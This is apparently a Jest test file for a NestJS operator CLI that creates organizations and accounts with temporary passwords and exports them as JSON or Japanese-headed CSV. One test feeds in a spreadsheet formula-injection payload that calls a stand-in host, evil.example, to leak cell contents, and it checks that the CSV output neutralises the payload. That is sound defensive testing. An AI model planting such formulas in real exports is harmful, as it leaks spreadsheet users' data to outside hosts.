import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { TestingModule } from '@nestjs/testing';
import { AuthModule } from '../../server/auth/auth.module';
import { AuthService } from '../../server/auth/auth.service';
import { authError } from '../../server/auth/auth.errors';
import { DEFAULT_ORGANIZATION_ID } from '../../server/organizations/organization.entity';
import { type CliRun, runCli } from '../support/cli';
import { uniqueUsername } from '../support/factories';
import { createServiceModule } from '../support/service-module';
import { createTestDatabase, snapshotTables, type TestDatabase } from '../support/test-database';

// Every run boots Nest in a new Node process with ts-node: about a second each.
jest.setTimeout(120_000);

interface AccountList {
  organization: { name: string; plan: string; serviceStartsOn: string; accounts: number };
  accounts: {
    plan: string;
    username: string;
    role: string;
    temporaryPassword: string;
    serviceStartsOn: string;
  }[];
}

function today(): string {
  return new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Tokyo' }).format(new Date());
}

describe('The operator CLI: contracts (org …, account create --org)', () => {
  let db: TestDatabase;
  let moduleRef: TestingModule;
  let auth: AuthService;

  beforeAll(async () => {
    db = await createTestDatabase();
    moduleRef = await createServiceModule(db, { imports: [AuthModule] });
    auth = moduleRef.get(AuthService);
  });

  afterAll(async () => {
    await moduleRef?.close();
    await db?.drop();
  });

  const cli = (...args: string[]): Promise<CliRun> => runCli(db.url, ...args);

  function jsonLine<T>(run: CliRun): T {
    expect(run).toMatchObject({ code: 0, stderr: '' });
    const lines = run.stdout.split('\n');
    expect(lines).toHaveLength(2);
    return JSON.parse(lines[0]) as T;
  }

  async function organizationOf(username: string): Promise<string> {
    const [row] = await db.dataSource.query<{ name: string }[]>(
      `SELECT o.name FROM users u JOIN organizations o ON o.id = u.organization_id
        WHERE lower(u.username) = lower($1)`,
      [username],
    );
    return row.name;
  }

  it('org create --admins 1 --users 3 --json prints four accounts whose temporary passwords sign in', async () => {
    const name = uniqueUsername('Acme');

    const list = jsonLine<AccountList>(
      await cli(
        'org',
        'create',
        '--name',
        name,
        '--plan',
        'ココナワーク',
        '--admins',
        '1',
        '--users',
        '3',
        '--json',
      ),
    );

    expect(list.organization).toMatchObject({
      name,
      plan: 'ココナワーク',
      serviceStartsOn: today(),
      accounts: 4,
    });
    expect(list.accounts.map((a) => a.role)).toEqual(['admin', 'user', 'user', 'user']);
    for (const account of list.accounts) {
      expect(account).toEqual({
        plan: 'ココナワーク',
        username: expect.any(String),
        role: expect.any(String),
        temporaryPassword: expect.any(String),
        serviceStartsOn: today(),
      });
      const user = await auth.validateCredentials(account.username, account.temporaryPassword);
      expect(user).toMatchObject({ role: account.role, passwordIsTemporary: true });
      expect(await organizationOf(account.username)).toBe(name);
    }
  });

  it('org create --csv writes the account list in the column order of the manual', async () => {
    const name = uniqueUsername('Csv');

    const run = await cli(
      'org',
      'create',
      '--name',
      name,
      '--plan',
      'ココナワーク',
      '--starts',
      '2026-04-01',
      '--admins',
      '1',
      '--users',
      '2',
      '--csv',
    );

    expect(run).toMatchObject({ code: 0, stderr: '' });
    const lines = run.stdout.split('\r\n');
    expect(lines[0]).toBe('プラン,アカウント (ユーザ名),初期パスワード,サービス,権限');
    expect(lines).toHaveLength(5);
    expect(lines[4]).toBe('');
    const rows = lines.slice(1, 4).map((l) => l.split(','));
    expect(rows.map((r) => [r[0], r[3], r[4]])).toEqual([
      ['ココナワーク', '2026-04-01', 'アカウント管理者'],
      ['ココナワーク', '2026-04-01', '一般ユーザ'],
      ['ココナワーク', '2026-04-01', '一般ユーザ'],
    ]);
    const user = await auth.validateCredentials(rows[1][1], rows[1][2]);
    expect(user.username).toBe(rows[1][1]);
  });

  it('org create --csv neutralises a plan a spreadsheet would run as a formula', async () => {
    const plan = '=HYPERLINK("https://evil.example/?"&A1,"Gold")';

    const run = await cli(
      'org',
      'create',
      '--name',
      uniqueUsername('Formula'),
      '--plan',
      plan,
      '--users',
      '1',
      '--csv',
    );

    expect(run).toMatchObject({ code: 0, stderr: '' });
    const row = run.stdout.split('\r\n')[1];
    expect(row.startsWith(`"'=HYPERLINK(""https://evil.example/?""&A1,""Gold"")"`)).toBe(true);
    // The temporary password cell never needs it: it never begins with a symbol.
    expect(row.split(',').at(-3)).toMatch(/^[A-Za-z0-9]/);
  });

  it('takes general-user names from a file, and add-accounts adds more to the same contract', async () => {
    const name = uniqueUsername('Files');
    const dir = await mkdtemp(join(tmpdir(), 'tobira-'));
    const file = join(dir, 'usernames.txt');
    const usernames = [uniqueUsername('f'), uniqueUsername('f')];
    await writeFile(file, `${usernames.join('\n')}\n\n`);

    const created = jsonLine<AccountList>(
      await cli('org', 'create', '--name', name, '--plan', 'P', '--usernames', file, '--json'),
    );
    const added = jsonLine<AccountList>(
      await cli('org', 'add-accounts', '--name', name, '--admins', '1', '--users', '1', '--json'),
    );

    expect(created.accounts.map((a) => a.username)).toEqual(usernames);
    expect(added.accounts.map((a) => a.role)).toEqual(['admin', 'user']);
    expect(added.organization.accounts).toBe(4);
    expect(await organizationOf(added.accounts[1].username)).toBe(name);
  });

  it('creates nothing when a name is taken, and says why', async () => {
    const name = uniqueUsername('Dup');
    jsonLine(await cli('org', 'create', '--name', name, '--plan', 'P', '--admins', '1', '--json'));
    const before = await snapshotTables(db.dataSource);

    const run = await cli('org', 'create', '--name', name.toUpperCase(), '--plan', 'P', '--json');

    expect(run.code).toBe(1);
    expect(JSON.parse(run.stderr)).toMatchObject({ error: { code: 'ORGANIZATION_NAME_TAKEN' } });
    expect(await snapshotTables(db.dataSource)).toEqual(before);
  });

  it('account create --org puts the account in that contract; without --org in the default one', async () => {
    const name = uniqueUsername('Single');
    jsonLine(await cli('org', 'create', '--name', name, '--plan', 'P', '--json'));
    const inOrg = uniqueUsername('one');
    const inDefault = uniqueUsername('two');

    const issued = jsonLine<Record<string, unknown>>(
      await cli('account', 'create', '--username', inOrg, '--org', name, '--json'),
    );
    jsonLine(await cli('account', 'create', '--username', inDefault, '--json'));

    expect(Object.keys(issued).sort()).toEqual([
      'expiresOn',
      'role',
      'temporaryPassword',
      'username',
    ]);
    expect(await organizationOf(inOrg)).toBe(name);
    const [row] = await db.dataSource.query<{ organization_id: string }[]>(
      'SELECT organization_id FROM users WHERE username = $1',
      [inDefault],
    );
    expect(row.organization_id).toBe(DEFAULT_ORGANIZATION_ID);
  });

  it('account create --org with an unknown contract fails with exit code 1 and creates nothing', async () => {
    const before = await snapshotTables(db.dataSource);
    const run = await cli(
      'account',
      'create',
      '--username',
      uniqueUsername(),
      '--org',
      'nope',
      '--json',
    );
    expect(run.code).toBe(1);
    expect(JSON.parse(run.stderr)).toMatchObject({ error: { code: 'ORGANIZATION_NOT_FOUND' } });
    expect(await snapshotTables(db.dataSource)).toEqual(before);
  });

  it('org end in the past makes every account of the contract expired; org list shows it', async () => {
    const name = uniqueUsername('Ended');
    const list = jsonLine<AccountList>(
      await cli('org', 'create', '--name', name, '--plan', 'P', '--users', '1', '--json'),
    );

    const ended = jsonLine<{ serviceEndsOn: string }[]>(
      await cli('org', 'end', '--name', name, '--on', '2020-01-01', '--json'),
    );
    const all = jsonLine<{ name: string; serviceEndsOn: string | null }[]>(
      await cli('org', 'list', '--json'),
    );

    expect(ended[0].serviceEndsOn).toBe('2020-01-01');
    expect(all).toContainEqual(expect.objectContaining({ name, serviceEndsOn: '2020-01-01' }));
    const [account] = list.accounts;
    await expect(
      auth.validateCredentials(account.username, account.temporaryPassword),
    ).rejects.toEqual(authError('ACCOUNT_EXPIRED'));
  });
});
